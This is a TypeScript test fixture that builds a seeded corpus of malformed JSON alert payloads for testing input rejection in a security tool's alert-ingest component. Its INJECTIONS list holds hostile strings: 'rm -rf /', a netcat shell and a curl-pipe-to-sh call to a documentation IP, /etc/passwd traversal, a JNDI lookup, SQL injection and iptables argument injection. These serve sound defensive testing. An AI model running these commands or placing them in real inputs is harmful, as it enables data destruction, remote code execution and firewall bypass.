/**
 * The bad-input corpus: malformed payloads of every family issue 11 lists, generated from a seed (the same corpus
 * on every run), each one line (the file input reads lines) and each refused by alert-ingest. PURE but for the
 * builders' alert ids.
 */
import { anAlert } from '@riposte/testing';

export type Family = 'not-json' | 'truncated' | 'wrong-types' | 'deep' | 'proto-root' | 'oversized' | 'bad-utf8' | 'injection' | 'too-many-keys';

export interface BadPayload {
  readonly family: Family;
  readonly bytes: Buffer;
}

export const FAMILIES: readonly Family[] = ['not-json', 'truncated', 'wrong-types', 'deep', 'proto-root', 'oversized', 'bad-utf8', 'injection', 'too-many-keys'];

/** Strings that try to break out of a shell, a path, a JSON line, an iptables argument, a log line or a template. */
export const INJECTIONS = [
  '; rm -rf / #', '$(id)', '`reboot`', '| nc 203.0.113.66 4444', '&& curl http://203.0.113.66/x | sh', '../../../../etc/passwd',
  '-j ACCEPT', '--help', "'; DROP TABLE alerts; --", '${jndi:ldap://203.0.113.66/a}', '{{7*7}}', '<script>alert(1)</script>',
  '1.2.3.4 -j ACCEPT', '10.0.0.1\nINJECTED', '\u0000nul', '\u001b[2Jansi', '%s%n%x', 'A'.repeat(5000),
];

/** A small deterministic PRNG (mulberry32), so that every run sends the same corpus. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const agentId = '001';
const alertText = () => JSON.stringify(anAlert({ agentId, srcip: '192.0.2.200' }));
const withData = (extra: string) => alertText().replace('"data":{', `"data":{${extra},`);

function one(family: Family, rnd: () => number, i: number): Buffer {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
  switch (family) {
    case 'not-json':
      return Buffer.from(pick([
        `May 11 12:29:18 localhost sshd[${i}]: Invalid user admin from 192.0.2.${i % 250}`,
        `<134>1 2024-01-01T00:00:00Z host app - - - ${i}`,
        `rule=5712 level=10 agent=001 srcip=192.0.2.${i % 250}`,
        `{rule: {id: "5712"}}`,
        `undefined`,
        `NaN`,
        `{"a":1}{"b":2}`,
        Array.from({ length: 40 }, () => String.fromCharCode(33 + Math.floor(rnd() * 90))).join(''),
      ]));
    case 'truncated': {
      const t = alertText();
      return Buffer.from(t.slice(0, 1 + Math.floor(rnd() * (t.length - 2))));
    }
    case 'wrong-types': {
      const a = anAlert({ agentId }) as unknown as Record<string, unknown>;
      const variants: unknown[] = [
        { ...a, rule: { id: 5712, level: 10 } },
        { ...a, rule: { id: '5712', level: '10' } },
        { ...a, rule: { id: '5712', level: 10, groups: 'sshd' } },
        { ...a, rule: null },
        { ...a, agent: { id: ['001'] } },
        { ...a, agent: { id: 1 } },
        { ...a, agent: 'agent-001' },
        { ...a, data: { srcip: 3232235777 } },
        { ...a, rule: [5712] },
        [[a]],
        '"a string"',
        42,
        true,
        null,
      ];
      const v = pick(variants);
      return Buffer.from(typeof v === 'string' ? v : JSON.stringify(v));
    }
    case 'deep': {
      const levels = 5000;
      return Buffer.from(pick([
        withData(`"deep":${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`),
        withData(`"deep":${'['.repeat(levels)}${']'.repeat(levels)}`),
        `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`,
        `${'['.repeat(levels)}${']'.repeat(levels)}`,
        alertText().replace('"rule":{', `"rule":{"x":${'['.repeat(levels)}${']'.repeat(levels)},`),
      ]));
    }
    case 'proto-root': {
      const key = pick(['__proto__', 'constructor', 'prototype']);
      const value = pick(['{"rule":{"id":"5712","level":15}}', 'null', '{"prototype":{"polluted":true}}', '"x"']);
      return Buffer.from(`{${JSON.stringify(key)}:${value},${alertText().slice(1)}`);
    }
    case 'oversized':
      return Buffer.from(JSON.stringify({ ...anAlert({ agentId, srcip: '192.0.2.201' }), full_log: 'x'.repeat(70 * 1024 + Math.floor(rnd() * 1000)) }));
    case 'bad-utf8': {
      const [head, tail] = alertText().split('"data":{');
      const bad = pick([[0xc0, 0xaf], [0xff], [0xfe, 0xff], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]]);
      return Buffer.concat([Buffer.from(`${head}"data":{"x":"`), Buffer.from(bad), Buffer.from(`",${tail}`)]);
    }
    case 'injection': {
      const s = pick(INJECTIONS);
      // Every field, the rule id and level included: a script must never see any of it.
      return Buffer.from(JSON.stringify({
        timestamp: s, id: s, location: s, full_log: s, decoder: { name: s },
        rule: { id: s, level: s, description: s, groups: [s] },
        agent: { id: s, name: s, ip: s }, manager: { name: s },
        data: { srcip: s, dstuser: s, srcport: s, protocol: s },
      }));
    }
    case 'too-many-keys':
      return Buffer.from(withData(`"wide":{${Array.from({ length: 5200 }, (_, k) => `"k${k}":0`).join(',')}}`));
  }
}

/** `n` malformed payloads, the families taken in turn so each input gets every family. */
export function badPayloads(n: number, seed: number): BadPayload[] {
  const rnd = prng(seed);
  return Array.from({ length: n }, (_, i) => {
    const family = FAMILIES[i % FAMILIES.length];
    return { family, bytes: one(family, rnd, i) };
  });
}
